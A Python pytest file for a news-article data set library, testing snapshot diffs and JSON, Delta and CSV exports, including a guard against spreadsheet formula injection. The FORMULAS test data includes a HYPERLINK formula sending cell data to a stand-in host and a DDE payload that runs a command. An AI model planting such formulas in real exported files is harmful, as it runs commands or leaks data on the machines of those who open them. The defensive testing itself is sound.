"""Differences between data sets, and the tables in other forms."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import pytest
from publishing import NOON, Commit, make_article, publish

from clean.dataset import DataSet, DataSetError
from clean.dataset.diff import differences
from clean.dataset.export import FORMULA, csv_lines, json_lines, to_delta
from schemas.arrow import TABLES


@pytest.fixture
def two(data: DataSet, commit: Commit, tmp_path: Path) -> tuple[DataSet, DataSet]:
    """A snapshot, and the data set after changes."""
    commit([make_article(n, hours=0) for n in range(20)])
    data.snapshot(tmp_path / "old")
    commit(
        [make_article(3, "Một.\n\nHai.", hours=1, title="Khác"), make_article(30)], NOON + timedelta(days=20)
    )
    data.forget(["a1:0007"], NOON)
    return DataSet(tmp_path / "old"), data


def test_what_differs(two: tuple[DataSet, DataSet]) -> None:
    found = {one.article_id: one for one in differences(*two)}
    assert {name: one.kind for name, one in found.items()} == {
        "a1:0003": "changed",
        "a1:0007": "removed",
        "a1:0030": "added",
    }
    changed = found["a1:0003"]
    assert changed.changed == ("title", "text")
    assert changed.text_changed == 1
    assert changed.before is not None
    assert changed.after is not None
    assert (changed.before["title"], changed.after["title"]) == ("Tin 3", "Khác")


def test_nothing_differs_from_a_copy(data: DataSet, commit: Commit, tmp_path: Path) -> None:
    commit([make_article(n) for n in range(10)])
    data.snapshot(tmp_path / "linked")
    rebuilt = DataSet(tmp_path / "rebuilt")
    publish(rebuilt, [make_article(n) for n in reversed(range(10))], NOON + timedelta(days=40))
    assert list(differences(data, DataSet(tmp_path / "linked"))) == []
    assert list(differences(data, rebuilt)) == []


def test_a_folder_that_is_no_data_set_is_named(tmp_path: Path, data: DataSet, commit: Commit) -> None:
    commit([])
    with pytest.raises(DataSetError, match="is no data set"):
        list(differences(DataSet(tmp_path / "nowhere"), data))


def test_json_lines(data: DataSet, commit: Commit) -> None:
    commit([make_article(n) for n in range(5)])
    lines = list(json_lines(data.pieces("articles")))
    assert all(line.endswith("}\n") and line.count("\n") == 1 for line in lines)
    rows = {row["article_id"]: row for row in map(json.loads, lines)}
    assert len(rows) == 5
    assert rows["a1:0004"]["published_date"] == "2026-05-05"
    assert rows["a1:0004"]["first_seen"] == "2026-11-21T12:00:00+00:00"
    assert rows["a1:0004"]["title"] == "Tin 4"


FORMULAS = (
    '=HYPERLINK("http://a.example/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "＝1＋1",
)
"""Texts that a spreadsheet runs."""


def test_csv_holds_every_cell(data: DataSet, commit: Commit) -> None:
    title = 'Two "lines",\nand; a comma'
    commit([make_article(1, title=title, reporters=("P. Le", "Q. Tri"), paywalled=False)])
    (row,) = read_csv("".join(csv_lines(TABLES["articles"].names, data.pieces("articles"))))
    assert row["title"] == title
    assert json.loads(row["reporters"]) == ["P. Le", "Q. Tri"]
    assert (row["paywalled"], row["views"], row["tags"]) == ("false", "", "")
    assert row["first_seen"] == "2026-11-21T12:00:00+00:00"
    assert row["published_date"] == "2026-02-02"
    assert list(row) == next(data.pieces("articles")).schema.names


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_csv_is_a_formula(formula: str, data: DataSet, commit: Commit) -> None:
    article = make_article(1, title=formula, section=formula, reporters=(formula,), tags=(formula, "a"))
    commit([article])
    (row,) = read_csv("".join(csv_lines(TABLES["articles"].names, data.pieces("articles"))))
    for name in ("title", "section"):
        assert row[name].startswith("'")
        assert row[name].replace("'", "") == formula.replace("'", "")
    assert json.loads(row["tags"]) == [formula, "a"]
    assert not [name for name, cell in row.items() if FORMULA.search(cell)]
    (raw,) = read_csv("".join(csv_lines(TABLES["articles"].names, data.pieces("articles"), guard=False)))
    assert raw["title"] == formula


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a\n=1+1\n- b", "a\n'=1+1\n'- b"),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("a = b - c; d @ e", "a = b - c; d @ e"),
        ("well-known; a=b", "well-known; a=b"),
    ],
)
def test_nor_where_another_separator_is_expected(text: str, cell: str, data: DataSet, commit: Commit) -> None:
    commit([make_article(1, title=text)])
    (row,) = read_csv("".join(csv_lines(["title"], data.pieces("articles"))))
    assert row == {"title": cell}


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(text.splitlines(keepends=True)))


@pytest.mark.parametrize("table", ["articles", "versions"])
def test_delta(data: DataSet, commit: Commit, tmp_path: Path, table: str) -> None:
    deltalake = pytest.importorskip("deltalake")
    commit([make_article(n) for n in range(5)])
    for _ in range(2):  # a second export replaces the first
        to_delta(table, data.pieces(table), tmp_path / table)
    found = deltalake.DeltaTable(tmp_path / table).to_pyarrow_table()
    assert found.num_rows == sum(piece.num_rows for piece in data.pieces(table))
    assert found.schema.names == next(data.pieces(table)).schema.names
